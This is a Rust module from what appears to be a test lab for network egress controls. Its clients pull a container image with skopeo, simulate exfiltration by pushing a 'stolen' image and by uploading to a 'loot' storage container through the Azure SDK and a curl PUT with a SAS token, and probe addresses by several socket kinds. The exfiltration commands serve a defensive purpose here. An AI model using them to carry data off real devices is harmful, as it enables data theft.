//! What runs on the device: a client that pulls, and clients that carry data away.

pub mod keepalive_client;
pub mod stream;
#[cfg(feature = "certificates")]
pub mod tls_client;

use std::{
    fs,
    net::IpAddr,
    path::Path,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use serde::Deserialize;

use crate::{
    fixtures::{
        process::{Finished, run, run_with_input},
        process_env::ProcessEnv,
        tool_cache::ToolCache,
    },
    servers::{
        azurite::{ACCOUNT_KEY, HOST},
        certificates::Certificates,
        registry::{IMAGE, skopeo},
    },
};

const STORAGE_CLIENT: &str = include_str!("../../lab/storage_client.py");
const REACH_ADDRESSES: &str = include_str!("../../lab/reach_addresses.py");
/// Longer than any client's own time limit.
pub(crate) const LIMIT: Duration = Duration::from_secs(90);
const ATTEMPTS_LIMIT: Duration = Duration::from_secs(300);

/// A pull that succeeded.
#[derive(Clone, Copy, Debug)]
pub struct PullReport {
    /// From the client's start to its end.
    pub duration: Duration,
    /// Layers in the image.
    pub layers: usize,
    /// Size of all layers as they came over the wire.
    pub bytes: u64,
}

/// How an attempt to carry data away ended.
#[derive(Clone, Debug, Deserialize)]
pub struct Exfiltration {
    /// Whether the data arrived.
    pub ok: bool,
    /// What the client said.
    pub error: Option<String>,
    /// The errno at the bottom of the client's error, where it tells.
    pub errno: Option<i32>,
    /// How long the attempt took, without the client's start.
    pub seconds: f64,
}

/// One attempt to reach an address.
#[derive(Clone, Debug, Deserialize)]
pub struct Attempt {
    /// `tcp`, `tcp-mapped`, `udp`, `udp-connected`, `udp-mapped`, `icmp`, `raw`, `raw-own-header`.
    pub kind: String,
    /// Where to.
    pub address: IpAddr,
    /// Why the system call failed. Success says of TCP only that anything arrived.
    pub errno: Option<i32>,
    /// How long the system calls took.
    pub milliseconds: f64,
}

/// The clients' programs and what they need.
#[derive(Debug)]
pub(crate) struct Clients<'a> {
    pub(crate) cache: &'a ToolCache,
    pub(crate) tls: &'a Certificates,
    /// The lab's directory.
    pub(crate) dir: &'a Path,
}

impl Clients<'_> {
    /// Pulls [`IMAGE`] from `login_server` with skopeo.
    pub(crate) fn pull(&self, env: &ProcessEnv, login_server: &str) -> Result<PullReport> {
        let home = tempfile::tempdir_in(self.dir).context("make a directory for a pull")?;
        let target = home.path().join("image");
        let mut pull = skopeo(self.cache, env, home.path());
        pull.args(["copy", "--quiet", "--src-no-creds", "--src-cert-dir"])
            .arg(self.tls.cert_dir())
            .arg(format!("docker://{login_server}/{IMAGE}"))
            .arg(format!("dir:{}", target.display()));
        let finished = run(pull, LIMIT)?;
        let duration = finished.duration;
        finished
            .success()
            .with_context(|| format!("pull from {login_server}"))?;
        report(&target, duration)
    }

    /// Pushes the image in the lab's `image` directory to `login_server` with skopeo.
    pub(crate) fn push(&self, env: &ProcessEnv, login_server: &str, limit: Duration) -> Result<()> {
        let home = tempfile::tempdir_in(self.dir).context("make a directory for a push")?;
        let image = crate::servers::image::make(home.path())?;
        let mut push = skopeo(self.cache, env, home.path());
        push.args(["copy", "--quiet", "--dest-no-creds", "--dest-cert-dir"])
            .arg(self.tls.cert_dir())
            .arg(image)
            .arg(format!("docker://{login_server}/stolen:1"));
        run(push, limit)?
            .success()
            .with_context(|| format!("push to {login_server}"))?;
        Ok(())
    }

    /// Makes the bad actor's container ready and returns a signature that opens it.
    pub(crate) fn prepare_storage(&self, env: &ProcessEnv) -> Result<String> {
        #[derive(Deserialize)]
        struct Prepared {
            sas: String,
        }
        let said = self
            .storage_tool(env, "prepare")?
            .success()
            .context("prepare the storage")?;
        let prepared: Prepared = serde_json::from_str(&said).context("read the signature")?;
        Ok(prepared.sas)
    }

    /// Uploads with the Azure SDK.
    pub(crate) fn upload_with_sdk(&self, env: &ProcessEnv) -> Result<Exfiltration> {
        let said = self
            .storage_tool(env, "upload")?
            .success()
            .context("run the Azure SDK")?;
        serde_json::from_str(&said).with_context(|| format!("read the SDK's report: {said}"))
    }

    fn storage_tool(&self, env: &ProcessEnv, action: &str) -> Result<Finished> {
        let mut tool = env.command(self.cache.path("venv/bin/python"));
        tool.args(["-c", STORAGE_CLIENT, action, &format!("https://{HOST}")])
            .arg(self.tls.ca())
            .env("ACCOUNT_KEY", ACCOUNT_KEY);
        run(tool, LIMIT)
    }

    /// Tries to reach every address in every way, `rounds` times.
    pub(crate) fn attempt(
        &self,
        env: &ProcessEnv,
        addresses: &[IpAddr],
        rounds: u32,
    ) -> Result<Vec<Attempt>> {
        let mut tool = env.command(self.cache.path("venv/bin/python"));
        tool.args(["-c", REACH_ADDRESSES, &rounds.to_string()]);
        tool.args(addresses.iter().map(ToString::to_string));
        let said = run(tool, ATTEMPTS_LIMIT)?
            .success()
            .context("attempt to reach addresses")?;
        serde_json::from_str(&said).context("read the attempts' report")
    }

    /// Uploads with curl and a signature from [`Self::prepare_storage`].
    pub(crate) fn upload_with_curl(&self, env: &ProcessEnv, sas: &str) -> Result<Exfiltration> {
        let mut curl = env.command("curl");
        curl.args([
            "--disable",
            "--silent",
            "--show-error",
            "--fail",
            "--max-time",
            "30",
        ])
        .args(["--noproxy", "*", "--header", "x-ms-blob-type: BlockBlob"])
        .args(["--request", "PUT", "--data-binary", "@-", "--cacert"])
        .arg(self.tls.ca())
        .arg(format!("https://{HOST}/loot/curl?{sas}"));
        let start = Instant::now();
        let finished = run_with_input(curl, "what the device knows", LIMIT)?;
        let ok = finished.status.success();
        Ok(Exfiltration {
            ok,
            error: (!ok).then(|| finished.stderr.trim().to_owned()),
            errno: None,
            seconds: start.elapsed().as_secs_f64(),
        })
    }
}

/// skopeo's `dir:` transport writes one file for each blob, named by its digest.
fn report(image: &Path, duration: Duration) -> Result<PullReport> {
    #[derive(Deserialize)]
    struct Manifest {
        layers: Vec<Layer>,
    }
    #[derive(Deserialize)]
    struct Layer {
        digest: String,
        size: u64,
    }
    let text = fs::read(image.join("manifest.json")).context("read the pulled manifest")?;
    let manifest: Manifest = serde_json::from_slice(&text).context("parse the pulled manifest")?;
    let mut bytes = 0;
    for Layer { digest, size } in &manifest.layers {
        let blob = image.join(digest.trim_start_matches("sha256:"));
        let found = fs::metadata(&blob)
            .with_context(|| format!("find the layer {digest}"))?
            .len();
        if found != *size {
            bail!("the layer {digest} has {found} bytes instead of {size}");
        }
        bytes += size;
    }
    Ok(PullReport {
        duration,
        layers: manifest.layers.len(),
        bytes,
    })
}
